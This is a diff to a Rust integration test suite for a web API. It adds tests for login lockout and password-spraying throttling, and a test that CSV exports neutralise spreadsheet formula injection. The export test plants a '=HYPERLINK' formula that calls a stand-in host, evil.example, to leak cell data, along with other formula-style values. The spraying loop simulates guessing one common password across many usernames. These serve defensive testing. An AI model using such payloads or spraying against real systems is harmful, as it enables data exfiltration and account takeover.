@@ -20,6 +20,7 @@ on_both_backends!(
     interactions_tasks_and_timeline,
     score_refresh_job_on_demand,
     segments_are_sized_listed_and_exported_within_scope,
+    exported_cells_cannot_run_as_formulas,
 );
 
 async fn create(api: &common::Api, body: Value) -> Value {
@@ -374,6 +375,34 @@ async fn session_login_csrf_logout_and_throttle(app: &TestApp) {
         StatusCode::TOO_MANY_REQUESTS,
         "locked after five failures"
     );
+    // ... from that address only: the colleague at another machine still signs in.
+    let (s, v) = app
+        .anonymous_from([127, 0, 0, 2])
+        .post(
+            "/auth/login",
+            json!({"username": "rep", "password": PASSWORD}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::OK, "another address is not locked out: {v}");
+    // One address spraying guesses over many usernames is stopped after twenty failures,
+    // whichever account it tries next.
+    let sprayer = app.anonymous_from([127, 0, 0, 3]);
+    for i in 0..20 {
+        let (s, _) = sprayer
+            .post(
+                "/auth/login",
+                json!({"username": format!("user{i}"), "password": "Winter2026!"}),
+            )
+            .await;
+        assert_eq!(s, StatusCode::UNAUTHORIZED, "attempt {i}");
+    }
+    let (s, _) = sprayer
+        .post(
+            "/auth/login",
+            json!({"username": "rep", "password": PASSWORD}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::TOO_MANY_REQUESTS, "the address is throttled");
     let (s, _) = other
         .post(
             "/auth/login",
@@ -817,4 +846,43 @@ async fn segments_are_sized_listed_and_exported_within_scope(app: &TestApp) {
     assert_eq!(s, StatusCode::NO_CONTENT);
     let (_, all) = marketing.get("/segments").await;
     assert_eq!(all, json!([]));
+}
+
+/// A name, tag or city that starts like a formula reaches the CSV as text (prefixed with `'`),
+/// while a phone number in display form (`+852 …`) reads as typed.
+async fn exported_cells_cannot_run_as_formulas(app: &TestApp) {
+    let admin = app.user("admin", Role::Admin, None).await;
+    create(
+        &admin,
+        json!({"kind": "individual", "name": "=HYPERLINK(\"http://evil.example/?\"&A1)",
+               "city": "广州", "province": "@SUM(A1)", "tags": ["-2+3"],
+               "contact_points": [{"kind": "mobile", "value": "+852 2123 4567"}]}),
+    )
+    .await;
+    let (s, seg) = admin
+        .post(
+            "/segments",
+            json!({"name": "广州", "rule": {"clauses": [{"field": "city", "op": "eq", "value": "广州"}]}}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{seg}");
+    let body = admin
+        .raw(
+            reqwest::Method::GET,
+            &format!("/segments/{}/export", seg["id"]),
+        )
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let row = body.lines().nth(1).expect("one customer row");
+    assert!(
+        row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
+        "{row}"
+    );
+    assert!(row.contains(",'@SUM(A1),"), "{row}");
+    assert!(row.contains(",'-2+3,"), "{row}");
+    assert!(row.contains(",+852 2123 4567,"), "{row}");
 }
